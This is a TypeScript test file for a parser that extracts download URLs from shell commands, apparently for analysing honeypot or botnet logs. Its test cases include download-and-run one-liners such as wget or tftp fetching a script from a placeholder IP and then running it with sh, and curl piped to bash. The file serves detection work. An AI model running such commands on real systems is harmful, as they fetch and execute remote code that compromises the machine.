import { expect, test } from "bun:test";
import { fetchesOf, parseFetch } from "../../../lib/text/fetches.ts";

const urls = (command: string) => fetchesOf(command).map(({ url }) => url);

test.each([
  ["cd /tmp; wget http://198.51.100.7/bins.sh -O x; sh x", ["http://198.51.100.7/bins.sh"]],
  [`curl -fsSL "https://Example.com:8443/a?b=1" | bash`, ["https://Example.com:8443/a?b=1"]],
  ["wget 198.51.100.7/arm7 -O - >.x", ["http://198.51.100.7/arm7"]],
  ["busybox wget -O out.txt 198.51.100.7:81/x || /bin/curl -o out.txt files.example.net/x", ["http://198.51.100.7:81/x", "http://files.example.net/x"]],
  ["tftp -g -l t.sh -r t.sh 198.51.100.7", ["tftp://198.51.100.7/t.sh"]],
  ["tftp 198.51.100.7 -c get t.sh; sh t.sh", ["tftp://198.51.100.7/t.sh"]],
  ["ftpget -v -u anonymous -p anonymous -P 21 198.51.100.7 f1.sh f2.sh", ["ftp://198.51.100.7/f2.sh"]],
  ["wget ftp://u:p@[2001:db8::1]:21/f", ["ftp://u:p@[2001:db8::1]:21/f"]],
  ["wget http://a.example/1;wget http://a.example/1;wget http://a.example/2", ["http://a.example/1", "http://a.example/2"]],
  ["tftp; wget; curl; /bin/busybox ABCDE", []],
  ["wget -q file.txt; cat notes.txt", []],
  ["echo 198.51.100.7", []],
])("%s", (command, expected) => {
  expect(urls(command)).toEqual(expected);
});

test("tells host and path apart", () => {
  expect(parseFetch("http://u:p@Evil.Example:8080/d/x?y#z")).toEqual({
    url: "http://u:p@Evil.Example:8080/d/x?y#z",
    host: "evil.example",
    path: "/d/x",
  });
  expect(parseFetch("/dev/null")).toBeUndefined();
});

test("a command of megabytes costs no more than its beginning", () => {
  expect(urls(`wget ${"1.1.1.1 ".repeat(200_000)}`).length).toBeLessThan(300);
  expect(urls("http://".repeat(200_000)).length).toBeLessThan(300);
});
